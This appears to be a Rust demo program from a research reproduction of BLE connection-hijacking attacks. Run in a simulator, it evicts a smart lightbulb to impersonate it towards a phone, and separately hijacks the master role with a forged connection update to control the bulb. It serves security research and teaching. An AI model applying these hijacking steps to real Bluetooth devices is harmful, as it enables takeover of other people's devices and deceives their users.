//! Scenario B + C combined demo: evict the lightbulb from its own
//! connection, impersonate it towards the phone, then (separately) hijack
//! the Master role and drive the bulb directly.
//!
//! Run with: `cargo run -p injectable-examples --bin lightbulb_takeover`

use ble_devices::{bulb_payloads, Lightbulb};
use ble_host::gatt::props;
use ble_host::{GattServer, HostEvent, HostStack, Uuid};
use ble_link::{AddressType, DeviceAddress, UpdateRequest};
use ble_scenario::{Scenario, ScenarioBuilder};
use injectable::{Mission, MissionState};
use simkit::{Duration, SimRng};

fn build(seed: u64) -> Scenario {
    let mut s = ScenarioBuilder::example(seed).build();
    assert!(
        s.wait_synchronised(Duration::from_secs(10)),
        "the attacker never synchronised"
    );
    s.set_victim_auto_readvertise(false);
    s.central_mut().auto_reconnect = false;
    s
}

fn run_until_takeover(s: &mut Scenario) {
    for _ in 0..300 {
        s.run_for(Duration::from_millis(200));
        if s.attacker().mission_state() == MissionState::TakenOver {
            return;
        }
    }
    panic!("takeover did not complete");
}

fn scenario_b() {
    println!("— Scenario B: slave hijacking (paper §VI-B) —");
    let mut s = build(1);
    let mut server = GattServer::new();
    server
        .service(Uuid::GAP_SERVICE)
        .characteristic(Uuid::DEVICE_NAME, props::READ, b"Hacked".to_vec())
        .finish();
    let host = Box::new(HostStack::new(
        DeviceAddress::new([0xAD; 6], AddressType::Random),
        server,
        SimRng::seed_from(99),
    ));
    s.attacker_mut().arm(Mission::HijackSlave { host });
    run_until_takeover(&mut s);
    println!("  attacker evicted the bulb and took its place");
    println!("  bulb connected:  {}", s.victim_connected());
    println!(
        "  phone connected: {} (unaware)",
        s.central().ll.is_connected()
    );

    // The phone reads the device name — and gets the forged value.
    let name = s
        .attacker()
        .takeover_host()
        .unwrap()
        .server()
        .handle_of(Uuid::DEVICE_NAME)
        .unwrap();
    s.central_mut().host.read(name);
    s.run_for(Duration::from_secs(2));
    let response = s
        .central()
        .event_log
        .iter()
        .find_map(|e| match e {
            HostEvent::ReadResponse { value } => Some(String::from_utf8_lossy(value).into_owned()),
            _ => None,
        })
        .expect("phone read a device name");
    println!("  phone reads Device Name: {response:?}");
    assert_eq!(response, "Hacked");
    println!();
}

fn scenario_c() {
    println!("— Scenario C: master hijacking (paper §VI-C) —");
    let mut s = build(2);
    let control = s.victim_control_handle();
    s.attacker_mut().arm(Mission::HijackMaster {
        update: UpdateRequest {
            win_size: 2,
            win_offset: 3,
            interval: 60,
            latency: 0,
            timeout: 300,
        },
        instant_delta: 6,
        host: Box::new(HostStack::new(
            DeviceAddress::new([0xAD; 6], AddressType::Random),
            GattServer::new(),
            SimRng::seed_from(98),
        )),
        on_takeover_writes: vec![
            (control, bulb_payloads::power_on()),
            (control, bulb_payloads::colour(255, 0, 255)),
        ],
        mitm: None,
    });
    run_until_takeover(&mut s);
    s.run_for(Duration::from_secs(5));
    println!("  attacker injected a forged CONNECTION_UPDATE and stole the slave");
    println!(
        "  bulb state: on={} rgb={:?} (set by the attacker)",
        s.victim::<Lightbulb>().app.on,
        s.victim::<Lightbulb>().app.rgb
    );
    println!(
        "  legitimate phone: connected={} (supervision timeout, reason {:?})",
        s.central().ll.is_connected(),
        s.central().last_disconnect_reason
    );
    assert!(s.victim::<Lightbulb>().app.on);
    assert_eq!(s.victim::<Lightbulb>().app.rgb, (255, 0, 255));
    assert!(!s.central().ll.is_connected());
}

fn main() {
    scenario_b();
    scenario_c();
    println!("\nboth takeover scenarios reproduced");
}
